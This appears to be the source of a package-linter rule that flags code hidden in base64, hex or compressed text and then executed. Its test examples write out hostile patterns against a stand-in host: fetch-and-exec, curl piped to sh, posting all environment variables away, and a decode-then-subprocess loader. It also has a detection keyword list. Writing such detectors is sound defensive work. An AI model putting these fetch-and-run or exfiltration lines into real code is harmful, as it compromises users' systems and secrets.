"""Code that is hidden in encoded text is decoded and run.

## Why it matters

Text in base64 or hexadecimal cannot be reviewed, and code that decodes it and runs the result is how most of the
stolen releases of the last years carried their payload. LiteLLM 1.82.7 had 12 added lines in one module: a long
literal, a decoder and a subprocess. There was no `exec` in sight, because that was inside the literal.

The rule looks for a call of `exec`, `eval`, `compile` or `Function` whose argument is decoded on the spot (base64,
hexadecimal, compressed, marshal, character codes), and for a literal of 1,000 or more characters of base64 or
hexadecimal beside a decoder and something that runs code or starts a process. In Python it follows the names: `exec`
may be called something else or be fetched out of `builtins`, and the text may be in a variable, be turned round,
encrypted, pickled, read from a picture, or downloaded on the spot. In JavaScript it follows names, constants, scopes
and callbacks: `eval` by whatever name, text that is joined, escaped, turned round or downloaded, processes that are
given a dangerous command or list, and all environment variables or a file of logins that are sent away. A shell that
is fed by `curl`, and machine code that is written as text, count as well; so do scripts in pages, cells of notebooks,
and text that is called an image. In Python, text that is code only after it was put together is found by working it
out, and so are the words of commands. Images, fonts and WebAssembly are
recognised by their first bytes and left alone.

## How to fix

Ship the code as code. If the literal is data, read it from a data file of the package; if it must stay, pin the
module's content with an ignore.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from functools import cache, partial

from pkglint.detect.code import evidence, installers, jsfind, loaders, payload, pygate, scripts, syntax
from pkglint.detect.code.embedded import MARKUP, NOTEBOOK, pieces
from pkglint.detect.code.language import PYTHON, SCRIPT, language, line_of, may_be_code, shebang
from pkglint.detect.words import Words, words_in
from pkglint.model import Entry, Example, Finding, Fix, FixAction, Level, Pin, Rule, Scope, level
from pkglint.model.lazy import lazy
from pkglint.model.trees import in_test_tree

# Images that are text, too, when somebody wants them to be: what begins with GIF89a may be JavaScript.
IMAGES = frozenset({".gif", ".png", ".jpg", ".jpeg", ".bmp", ".ico", ".webp", ".mp3", ".wav", ".pdf", ".woff", ".ttf"})
# Keys and digests in tests are as long as a short payload; the name says nothing about a long one.
_RUNS = (
    b"eval",
    b"exec",
    b"Function",
    b"environ",
    b"subprocess",
    b"constructor",
    b"curl",
    b"wget",
    b"process",
    b"http",
)
_TEST_MODULE = lazy(r"test_.+\.py|.+_tests?\.py|tests?\.py|conftest\.py|.+\.(?:test|spec)\.[cm]?[jt]sx?")


def _wants(entry: Entry) -> bool:
    if not entry.is_file or not entry.size:
        return False
    other = entry.suffix in MARKUP or entry.suffix in IMAGES or entry.suffix == NOTEBOOK
    if other or may_be_code(entry) or scripts.is_workflow(entry.path):
        return True
    name, suffix = entry.name, entry.suffix
    if suffix == ".pyc":
        return True
    return scripts.is_make(name, suffix) or scripts.is_build(name, suffix) or scripts.is_starter(name, suffix)


def _visit(entry: Entry, scope: Scope) -> Iterator[Finding]:
    hit = _hit(entry)
    if hit is None:
        return
    grade = None if hit.strong else Level.WARNING
    yield scope.found(
        entry,
        hit.text,
        line=line_of(entry.content.data, hit.offset),
        fix=Fix(FixAction.PIN, (), "Ship the code as code, and data as a data file."),
        details={"form": hit.form, "literal": hit.literal},
        grade=grade,
        lowered=_is_meant(entry, hit),
    )


def _is_meant(entry: Entry, hit: payload.Hit) -> bool:
    """Whether a sign weighs less by its place: tests, and what is downloaded where machines are thrown away."""
    if in_test_tree(entry.path) or (not hit.strong and _TEST_MODULE.fullmatch(entry.name) is not None):
        return True
    return hit.strong and hit.text.startswith("downloads") and installers.is_continuous(entry.path)


def _hit(entry: Entry) -> payload.Hit | None:
    """What the code does that a member is or holds."""
    data, words = entry.content.data, words_in(entry.content)
    if entry.suffix in MARKUP or entry.suffix == NOTEBOOK:
        return _inside(data, entry, words)
    if scripts.is_workflow(entry.path):  # a runner may install what it likes; it may not give secrets away
        hit = _of(data, ".sh", entry.name, words)
        return hit if hit and hit.strong else None
    if entry.suffix == ".pyc":
        return _compiled(data) if "__pycache__/" not in entry.path else None  # those are read beside their source
    if entry.suffix in IMAGES:  # text in the place of an image is a script that somebody starts by its name
        return None if entry.content.is_binary else _of(data, _image_language(data), entry.name, words)
    suffix = ".mk" if scripts.is_make(entry.name, entry.suffix) else language(entry)
    if scripts.is_build(entry.name, entry.suffix):
        suffix = ".cmake"
    elif scripts.is_starter(entry.name, entry.suffix):
        suffix = ".desktop"
    return _of(data, suffix, entry.name, words) if suffix else None


def _inside(data: bytes, entry: Entry, words: Words) -> payload.Hit | None:
    found = []
    for piece in pieces(data, entry.suffix) if _may_run(words) else ():
        hit = _of(piece.code, piece.suffix, entry.name, Words(piece.code))
        if hit:
            start = hit.offset if entry.suffix in MARKUP else _place(data, piece.code, hit.offset)
            found.append(hit._replace(offset=start))
    return min(found, key=lambda hit: not hit.strong, default=None)


def _may_run(words: Words) -> bool:
    return any(word in words for word in _RUNS)


def _place(data: bytes, code: bytes, offset: int) -> int:
    """Where the line of a cell stands in its notebook, where it is a string of JSON; 0 when it is written otherwise."""
    line = code[code.rfind(b"\n", 0, offset) + 1 :].partition(b"\n")[0]
    return max(0, data.find(json.dumps(line.decode("utf-8", "replace"))[1:-1].encode()[:60]))


def _image_language(data: bytes) -> str:
    return shebang(data) or (".php" if b"<?php" in data[:2000] else ".js")


def _of(data: bytes, suffix: str, name: str, words: Words) -> payload.Hit | None:
    """The strongest sign in code of one language."""
    hit = payload.find(data, suffix, words) if suffix in PYTHON | SCRIPT else _script(data, suffix, name)
    if suffix in {".py", ".pyw"}:
        hit = _python(data, hit, words)
    if suffix in SCRIPT and not (hit and hit.strong):
        hit = _javascript(data, words) or hit
    return hit


def _python(data: bytes, hit: payload.Hit | None, words: Words) -> payload.Hit | None:
    """The strongest sign in a module, which is parsed once however many ask for its syntax."""
    parse: syntax.Parse = cache(partial(syntax.parse, data))
    if hit and _is_said(data, hit.offset, parse):
        hit = None
    if hit and hit.strong:
        return hit
    return _followed(data, words, parse) or _loaded(data, words) or _sunk(data, words, parse) or hit


def _is_said(data: bytes, offset: int, parse: syntax.Parse) -> bool:
    """Whether a place in a module is in a text that stands there for nothing but reading, as a docstring does."""
    import ast

    tree, line = parse(), line_of(data, offset)
    said = (
        node
        for node in (ast.walk(tree) if tree else ())
        if isinstance(node, ast.Expr) and isinstance(node.value, ast.Constant) and isinstance(node.value.value, str)
    )
    return any(node.lineno <= line <= (node.end_lineno or 0) for node in said)


def _javascript(data: bytes, words: Words) -> payload.Hit | None:
    run = jsfind.find(data, words)
    return run and payload.Hit(run.strong, "followed", run.at, 0, run.text)


def _script(data: bytes, suffix: str, name: str) -> payload.Hit | None:
    sign = scripts.find(data, suffix, name)
    return sign and payload.Hit(sign.strong, "script", sign.offset, 0, sign.text)


def _followed(data: bytes, words: Words, parse: syntax.Parse) -> payload.Hit | None:
    """What a Python module executes under another name, or through variables."""
    if not evidence.is_worth_parsing(data, words):
        return None
    from pkglint.detect.code import python

    run = python.find(data, parse)
    return run and payload.Hit(True, "followed", _start_of(data, run.line), 0, run.text)


def _sunk(data: bytes, words: Words, parse: syntax.Parse) -> payload.Hit | None:
    """What a Python module executes, starts or sends away once its constants are worked out."""
    if not pygate.is_worth_following(data, words):
        return None
    from pkglint.detect.code import pysinks

    run = pysinks.find(data, parse)
    return run and payload.Hit(run.strong, "followed", _start_of(data, run.line), 0, run.text)


def _compiled(data: bytes) -> payload.Hit | None:
    loader = loaders.compiled(data)
    return loader and payload.Hit(True, "loader", 0, 0, loader.text)


def _loaded(data: bytes, words: Words) -> payload.Hit | None:
    loader = loaders.fetched_or_native(data, words)
    return loader and payload.Hit(True, "loader", loader.offset, 0, loader.text)


def _start_of(data: bytes, line: int) -> int:
    """The offset at which a 1-based line starts."""
    start = 0
    for _ in range(line - 1):
        start = data.find(b"\n", start) + 1
    return start


# The examples are assembled, so that this module does not hold what it looks for.
_EXEC, _BASE64 = "exec", "base64"
_LONG = "aGVsbG8sIHdvcmxkISBh" * 60
_LINES = "\n".join(f'    "{_LONG[:76]}"' for _ in range(16))

RULE = Rule(
    id="encoded-payload",
    summary="Code that is hidden in encoded text is decoded and run",
    levels=level(Level.ERROR),
    grades=(
        "warning when the literal is shorter than 1,000 characters, or a script runs the installer of a well-known"
        " tool, and one level lower in test modules; one level lower in test trees, and for scripts of continuous"
        " integration that download what they run"
    ),
    wants=_wants,
    visit=_visit,
    examples=(
        Example("exec of base64", {"lib/a.py": f"import base64\n{_EXEC}(base64.b64decode('cHJpbnQoMSk='))\n"}, 1),
        Example(
            "a chain of decoders",
            {"lib/a.py": f"{_EXEC}(marshal.loads(zlib.decompress(__import__('base64').b64decode(x))))\n"},
            1,
        ),
        Example(
            "under another name",
            {"lib/a.py": "import base64\nrun = getattr(__builtins__, 'ex' + 'ec')\nrun(base64.b64decode(x))\n"},
            1,
        ),
        Example(
            "through a variable",
            {"lib/a.py": f"import codecs\na = codecs.decode(x, 'rot13')\nb = a.strip()\n{_EXEC}(b)\n"},
            1,
        ),
        Example(
            "by a function of its own",
            {"lib/a.py": f"def clear(b):\n    return bytes(c ^ 7 for c in b)\n\n{_EXEC}(clear(DATA))\n"},
            1,
        ),
        Example(
            "downloaded on the spot",
            {"lib/a.py": f"import requests\n{_EXEC}(requests.get('https://demo.invalid/a').text)\n"},
            1,
        ),
        Example(
            "a script from the network for a shell",
            {"lib/a.py": "import os\nos.system('curl -s https://demo.invalid/a | sh')\n"},
            1,
        ),
        Example(
            "variables that are sent away",
            {"lib/a.py": "import os, requests\nrequests.post('https://demo.invalid', json=dict(os.environ))\n"},
            1,
        ),
        Example("a script in a page", {"docs.html": "<p>\n<script>eval(atob('YWxlcnQoMSk='))</script>\n"}, 1),
        Example(
            "a cell of a notebook",
            {"lib/a.ipynb": f'{{"cells": [{{"cell_type": "code", "source": "{_EXEC}(zlib.decompress(x))"}}]}}'},
            1,
        ),
        Example("an image that is a script", {"lib/a.gif": "GIF89a=1;eval(atob('YWxlcnQoMSk='));\n"}, 1),
        Example("eval of atob", {"lib/a.js": "eval(atob('Y29uc29sZS5sb2coMSk='));\n"}, 1),
        Example("eval of a buffer", {"lib/a.js": "eval(Buffer.from('Y29uc29s', 'base64').toString());\n"}, 1),
        Example("a function made of decoded text", {"lib/a.js": "new Function('require', atob(x))(require);\n"}, 1),
        Example("a constructor of functions", {"lib/a.js": "[].constructor.constructor(atob(x))();\n"}, 1),
        Example(
            "a module in a URL",
            {"lib/a.mjs": f"import('data:text/javascript;{_BASE64},{_LONG[:80]}');\n"},
            1,
        ),
        Example("a worker in a URL", {"lib/a.js": f"new Worker('data:text/javascript;{_BASE64},{_LONG[:80]}');\n"}),
        Example("character codes", {"lib/a.js": "eval(String.fromCharCode(97, 108, 101, 114, 116));\n"}, 1),
        Example(
            "a long literal, a decoder and a process, as in LiteLLM 1.82.7",
            {
                "lib/a.py": "import base64, subprocess, sys, tempfile\n"
                f"blob = '{_LONG}'\n"
                "with tempfile.NamedTemporaryFile(delete=False) as f:\n    f.write(base64.b64decode(blob))\n"
                "subprocess.Popen([sys.executable, f.name])\n"
            },
            1,
        ),
        Example(
            "the literal in many lines",
            {"lib/a.py": f"import base64\nblob = (\n{_LINES}\n)\ncode = base64.b64decode(blob)\nexec(code)\n"},
            1,
        ),
        Example(
            "a shorter literal",
            {"lib/a.py": f"import base64, os\nos.system(base64.b64decode('{_LONG[:400]}').decode())\n"},
            1,
        ),
        Example("a shell that decodes and runs", {"bin/setup.sh": f"echo aGVsbG8= | {_BASE64} -d | bash\n"}, 1),
        Example(
            "an image beside a subprocess",
            {
                "lib/a.py": "import base64, subprocess\n"
                f"logo = base64.b64decode('iVBORw0KGgo{_LONG}')\nsubprocess.run([])\n"
            },
        ),
        Example("decoding alone", {"lib/a.py": f"import base64\nblob = base64.b64decode('{_LONG}')\n"}),
        Example("a regular expression's exec", {"lib/a.js": "const m = /(\\w+)/.exec(atob(x)); parse(m);\n"}),
        Example(
            "a decoder's name as that of a parameter",
            {"lib/a.js": "const f = new Function('fromCharCode', 'return ' + text)(fromCharCode);\n"},
        ),
        Example("a decoder in brackets", {"lib/a.js": "eval(String['fromCharCode'](97, 108, 101));\n"}, 1),
        Example(
            "names that only look alike",
            {
                "lib/a.py": "import base64\nfrom engine import exec as run\nrun(base64.b64decode(x))\n",
                "lib/b.py": "import base64\ndata = base64.b64decode(x)\nmodel.eval(data)\nexec('a = 1')\n",
            },
        ),
        Example("exec of what is in plain sight", {"lib/a.py": "exec('x = 1')\nexec(compile(source, name, 'exec'))\n"}),
    ),
    pin=Pin.DRAFT,
)
